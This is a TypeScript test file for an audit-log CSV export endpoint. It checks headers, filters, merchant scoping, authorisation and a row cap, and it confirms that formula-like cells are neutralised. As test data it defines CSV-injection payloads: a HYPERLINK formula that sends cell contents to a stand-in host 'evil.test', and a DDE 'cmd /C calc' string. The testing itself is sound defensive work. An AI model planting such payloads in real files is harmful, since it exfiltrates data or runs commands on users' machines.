import { env, exports } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { AUDIT_EXPORT_MAX_ROWS } from "../../src/audit/export.ts";
import type { AuditEntry } from "../../src/audit/query.ts";
import { api, bodies } from "../helpers/api.ts";
import { admin, merchant, tokenFor, viewer } from "../helpers/auth.ts";
import { auditRows } from "../helpers/db.ts";
import { pause } from "../helpers/unique.ts";

const A = "merchant-export-a";
const B = "merchant-export-b";
const MANY = "merchant-export-many";
// Text callers choose that a spreadsheet would run: a token's sub, a request id, an integration name.
const EVIL_SUB = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")';
const EVIL_REQUEST_ID = "-1-1"; // the characters a request id may have make a formula too
const EVIL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";

type Row = Record<string, string>;

/** GET /api/audit/export?query, parsed back (BOM stripped) into one object per entry. */
async function exportCsv(token: string, query = "") {
  const res = await fetchCsv(token, query);
  expect(res.status, res.text).toBe(200);
  return { ...res, rows: parse(res.text, { bom: true, columns: true }) as Row[] };
}

/** The raw answer: Response.text() would drop the BOM this test wants to see. */
async function fetchCsv(token: string, query = "") {
  const res = await exports.default.fetch(
    new Request(`https://gateway.test/api/audit/export${query ? `?${query}` : ""}`, {
      headers: { Authorization: `Bearer ${token}` },
    }),
  );
  const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(await res.arrayBuffer());
  const body = res.headers.get("content-type")?.startsWith("application/json") ? JSON.parse(text) : undefined;
  return { status: res.status, headers: res.headers, text, body };
}

/** Every entry GET /api/audit lists for `query`, newest first. */
async function listed(token: string, query = ""): Promise<AuditEntry[]> {
  const res = await api("GET", `/api/audit?limit=100${query ? `&${query}` : ""}`, { token });
  expect(res.status).toBe(200);
  expect(res.body.pagination.totalPages).toBeLessThanOrEqual(1);
  return res.body.data;
}

beforeAll(async () => {
  const evil = await tokenFor("merchant", A, { sub: EVIL_SUB });
  const created = await api("POST", "/api/integrations", {
    token: evil,
    body: bodies.csv(A, EVIL_NAME),
    headers: { "X-Request-Id": EVIL_REQUEST_ID },
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  await pause();
  expect((await api("POST", "/api/integrations", { token: await admin(), body: bodies.logo(B) })).status).toBe(201);
  await pause();
  expect((await api("GET", "/api/integrations?merchantId=other", { token: await merchant(A) })).status).toBe(403);
});

describe("GET /api/audit/export", () => {
  it("answers a CSV download with a BOM and a header row, entry for entry what GET /api/audit lists", async () => {
    const token = await admin();
    const { headers, text, rows } = await exportCsv(token);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(headers.get("content-disposition")).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(headers.get("cache-control")).toBe("no-store");
    expect(
      text.startsWith(
        "\uFEFFid,at,actor,role,merchantId,action,outcome,targetType,targetId,requestId,ip,details,count,lastAt\r\n",
      ),
    ).toBe(true);

    const entries = await listed(token);
    expect(rows.map((r) => r.id)).toEqual(entries.map((e) => e.id));
    const byId = new Map(entries.map((e) => [e.id, e]));
    for (const row of rows) {
      const entry = byId.get(row.id ?? "");
      expect(row.at).toBe(entry?.at);
      expect(row.action).toBe(entry?.action);
      expect(row.merchantId).toBe(entry?.merchantId ?? "");
      expect(row.details).toBe(entry?.details ? JSON.stringify(entry.details) : "");
      expect([row.count, row.lastAt]).toEqual([String(entry?.count), entry?.lastAt]);
    }
  });

  it("neutralises every cell a spreadsheet would run as a formula, and only those", async () => {
    const { rows } = await exportCsv(await admin(), `merchantId=${A}&action=integration.created`);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row?.actor).toBe(`'${EVIL_SUB}`);
    expect(row?.requestId).toBe(`'${EVIL_REQUEST_ID}`);
    // The name sits inside the details JSON, which starts with "{": not a formula, left as is.
    expect(JSON.parse(row?.details ?? "{}")).toMatchObject({ name: EVIL_NAME, connector: "csv" });
    expect(row?.role).toBe("merchant");
    // What is stored is untouched: neutralising happens in the file only.
    const stored = (await auditRows()).find((r) => r.id === row?.id);
    expect(stored).toMatchObject({ actor: EVIL_SUB, request_id: EVIL_REQUEST_ID });
  });

  it("applies the list's filters the same way", async () => {
    const token = await admin();
    for (const query of [
      `merchantId=${B}`,
      "outcome=denied",
      "action=integration.created",
      `merchantId=${A}&outcome=success`,
    ]) {
      const { rows } = await exportCsv(token, query);
      expect(
        rows.map((r) => r.id),
        query,
      ).toEqual((await listed(token, query)).map((e) => e.id));
    }
    expect((await exportCsv(token, "from=2999-01-01T00:00:00Z")).rows).toEqual([]);
    const bad = await fetchCsv(token, "outcome=maybe");
    expect(bad.status).toBe(400);
    expect(bad.body).toMatchObject({ code: "VALIDATION_ERROR" });
  });

  it("shows a merchant and its viewer only their merchant's entries, as the list does", async () => {
    for (const token of [await merchant(A), await viewer(A)]) {
      const { rows } = await exportCsv(token);
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.every((r) => r.merchantId === A)).toBe(true);
      expect(rows.map((r) => r.id)).toEqual((await listed(token)).map((e) => e.id));
    }
  });

  it("answers 403 (audited) to a merchant asking for another merchant's entries, and 401 without a token", async () => {
    const before = (await auditRows()).length;
    const res = await fetchCsv(await merchant(A), `merchantId=${B}`);
    expect(res.status).toBe(403);
    expect(res.body).toMatchObject({ code: "FORBIDDEN" });
    const after = await auditRows();
    expect(after.length).toBe(before + 1);
    expect(after.filter((r) => r.action === "auth.forbidden").at(-1)?.details).toContain("/api/audit/export");
    expect((await api("GET", "/api/audit/export")).status).toBe(401);
  });

  it(`refuses a selection of more than ${AUDIT_EXPORT_MAX_ROWS} entries, saying how many and how to narrow it`, async () => {
    const base = Date.parse("2020-01-01T00:00:00Z");
    // One statement writes them all: entry i is i seconds after the base.
    await env.DB.prepare(
      `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
       INSERT INTO audit_log (id, at, actor, role, merchant_id, action, outcome)
       SELECT printf('aud_many_%06d', i), ? + i * 1000, 'seed', 'admin', ?, 'integration.updated', 'success' FROM n`,
    )
      .bind(AUDIT_EXPORT_MAX_ROWS + 1, base, MANY)
      .run();
    const token = await admin();
    const res = await fetchCsv(token, `merchantId=${MANY}`);
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({
      code: "VALIDATION_ERROR",
      details: [
        {
          field: "query",
          message: `matches ${AUDIT_EXPORT_MAX_ROWS + 1} entries, more than the ${AUDIT_EXPORT_MAX_ROWS} one export holds; narrow it with from and to (or action, outcome, targetId)`,
        },
      ],
    });
    // Exactly the cap still fits: the first entry is left out by `from`.
    const from = new Date(base + 2000).toISOString();
    const { rows } = await exportCsv(token, `merchantId=${MANY}&from=${encodeURIComponent(from)}`);
    expect(rows).toHaveLength(AUDIT_EXPORT_MAX_ROWS);
    expect(rows[0]?.id).toBe(`aud_many_${String(AUDIT_EXPORT_MAX_ROWS + 1).padStart(6, "0")}`);
    expect(rows.at(-1)?.id).toBe("aud_many_000002");
  });
});
